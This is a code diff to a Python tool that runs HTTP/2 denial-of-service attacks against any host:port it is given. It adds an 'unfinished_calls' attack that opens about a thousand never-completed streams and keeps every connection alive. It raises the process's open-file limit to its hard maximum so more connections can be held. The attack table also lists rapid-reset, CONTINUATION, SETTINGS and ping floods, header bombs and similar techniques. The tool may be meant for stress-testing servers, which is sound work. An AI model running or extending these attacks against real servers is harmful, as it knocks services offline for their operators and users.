@@ -5,6 +5,7 @@ connected, since the server closes such connections.
 """
 
 import gzip
+import resource
 import select
 import socket
 import struct
@@ -176,6 +177,12 @@ def open_streams() -> Frames:
         yield frame(HEADERS, END_HEADERS, stream, _block())
 
 
+def unfinished_calls() -> Frames:
+    """Calls whose messages never begin, as many as a connection may have, on connections that all stay open."""
+    for stream in range(1, 2000, 2):
+        yield frame(HEADERS, END_HEADERS, stream, _block())
+
+
 def unfinished_bodies() -> Frames:
     """Calls whose messages never end."""
     part = bytes(16384)
@@ -253,7 +260,16 @@ ATTACKS: Final[dict[str, Callable[[], Frames]]] = {
     for attack in (
         *(rapid_reset, made_to_reset, continuation_flood, empty_continuations, settings_flood, ping_flood, reset_flood),
         *(empty_frames, data_dribble, priority_churn, headers_without_names, unread_answers, header_bombs, large_table),
-        *(zero_windows, open_streams, unfinished_bodies, repeated_end, packed_bombs, surplus_values, declared_tensors),
+        *(
+            zero_windows,
+            open_streams,
+            unfinished_calls,
+            unfinished_bodies,
+            repeated_end,
+            packed_bombs,
+            surplus_values,
+            declared_tensors,
+        ),
         *(watches, unknown_frames),
     )
 }
@@ -263,7 +279,7 @@ def attack(name: str, address: tuple[str, int], seconds: float) -> tuple[int, li
     """Attacks for a while, and again from the start where the server closes the connection.
 
     Returns:
-        Bytes sent, and the connections, of which the last may be open.
+        Bytes sent, and the connections, of which the last may be open, or all.
     """
     end, sent = time.monotonic() + seconds, 0
     connections: list[socket.socket] = []
@@ -272,13 +288,12 @@ def attack(name: str, address: tuple[str, int], seconds: float) -> tuple[int, li
         frames = ATTACKS[name]()
         with suppress(OSError):
             connections[-1].sendall(PREFACE + _settings())
-            while time.monotonic() < end:
-                part = b"".join(islice(frames, _PART))
+            while time.monotonic() < end and (part := b"".join(islice(frames, _PART))):
                 connections[-1].sendall(part)
                 sent += len(part)
                 if name != unread_answers.__name__:
                     _read_what_has_come(connections[-1])
-        if time.monotonic() < end:
+        if time.monotonic() < end and name != unfinished_calls.__name__:
             connections[-1].close()
     return sent, connections
 
@@ -289,7 +304,9 @@ def _read_what_has_come(connection: socket.socket) -> None:
 
 
 def main(name: str, place: str, seconds: str) -> None:
-    """Attacks, reports, and holds the last connection until standard input ends."""
+    """Attacks, reports, and holds the connections that are left until standard input ends."""
+    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
     host, _, port = place.rpartition(":")
     sent, connections = attack(name, (host, int(port)), float(seconds))
     print(f"{sent >> 10} KiB on {len(connections)} connections", flush=True)
